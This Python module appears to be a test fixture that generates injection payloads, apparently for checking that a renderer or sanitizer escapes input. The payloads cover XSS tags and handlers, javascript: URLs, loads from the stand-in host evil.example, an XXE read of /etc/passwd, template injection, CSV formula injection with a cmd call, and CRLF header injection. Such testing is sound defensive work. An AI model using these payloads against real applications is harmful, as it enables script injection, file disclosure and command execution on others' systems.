"""Injection payloads: an escape from the context of a text, followed by code.

And code that needs no escape.

Each calls `hit`, which the browser watches, or sends a request to `evil.example`.
"""

HOST = "evil.example"
HIT = "hit('{n}')"

WAYS_OUT = (
    "", '">', "'>", "</script>", "</title></head><body>", "</textarea>", "</style>", "-->", "]]>", "</template>",
    "</noscript>", "</svg>",
    '"/>', "`>", "</a></p></div>", "\\\">", "&quot;&gt;", "\"}]}</script>",
)  # fmt: skip
ACTS = (
    "<script>HIT</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<img src=x onerror=HIT>",
    "<svg onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<details open ontoggle=HIT>a</details>",
    "<input autofocus onfocus=HIT>",
    "<iframe srcdoc=\"<script>parent.HIT</script>\"></iframe>",
    "<iframe src=\"javascript:parent.HIT\"></iframe>",
    "<a href=\"javascript:HIT\">word</a>",
    "<object data=//evil.example/o></object>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<style>@import '//evil.example/i.css';</style>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/m\">",
    "<math><maction actiontype=statusline xlink:href=\"javascript:HIT\">word</maction></math>",
    "<video src=//evil.example/v onerror=HIT></video>",
)  # fmt: skip
ALONE = (
    '" onmouseover="HIT', "' onfocus='HIT' autofocus='", '" style="background:url(//evil.example/b)',
    "x onpointerenter=HIT y",
    '" autofocus onfocus="HIT" x="', "javascript:HIT", "JaVaScRiPt:HIT", " javascript:HIT", "java\tscript:HIT",
    "javascript&colon;HIT",
    "&#106;avascript:HIT", "data:text/html,<script>HIT</script>", "vbscript:HIT", "//evil.example/u",
    "\\\\evil.example\\u",
    "https:evil.example", "[word](javascript:HIT)", "[word](<javascript:HIT>)", "![a](//evil.example/p.png)",
    '![a](x" onerror="HIT)', "<javascript:HIT>", "[a]: javascript:HIT", "`<script>HIT</script>`",
    "<!--<script>HIT</script>",
    "<![CDATA[<script>HIT</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "<?xml-stylesheet href='//evil.example/x.xsl' type='text/xsl'?>", "&b;", "]]><script>HIT</script><![CDATA[",
    '"};HIT;//', '"]};HIT;//', "');HIT;//", "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "\\x3cscript\\x3eHIT\\x3c/script\\x3e",
    "${HIT}", "`;HIT;`", "{{ ''.__class__.__mro__ }}", "{{ range(seven) }}", "{% include '/etc/passwd' %}",
    "{# a #}", "<%= HIT %>",
    "}</style><script>HIT</script>", "a{background:url(//evil.example/c)}", "*/@import '//evil.example/d';/*",
    "expression(HIT)",
    '=HYPERLINK("//evil.example";"a")', "=SUM(A:A)", "+A:A", "-A:A", "@SUM(A:A)", "\t=A:A", "=cmd|' /C calc'!A",
    "\uff1dA:A", "%0A=A:A",
    "%3Cscript%3EHIT%3C/script%3E", "&lt;script&gt;HIT&lt;/script&gt;", "&amp;lt;script&amp;gt;",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e", "<script\u00a0>HIT</script>", "<img/src=x/onerror=HIT>",
    "<svg/onload=HIT//",
    "<a href=\"java&#10;script:HIT\">word</a>", "%0d%0aX-Evil: 1", "a\\r\\n  X-Evil: 1", "@a{b, c = {d}}",
    "TY  - EVIL",
)  # fmt: skip


def payloads() -> list[str]:
    """All payloads. Each calls its own name, without digits.

    Digits in prose would need a citation.
    """
    escapes = [way + act for way in WAYS_OUT for act in ACTS]
    return [text.replace("HIT", HIT.format(n=_letters(n))) for n, text in enumerate((*ALONE, *escapes))]


def _letters(number: int) -> str:
    return "".join(chr(ord("a") + int(digit)) for digit in f"{number:03}")
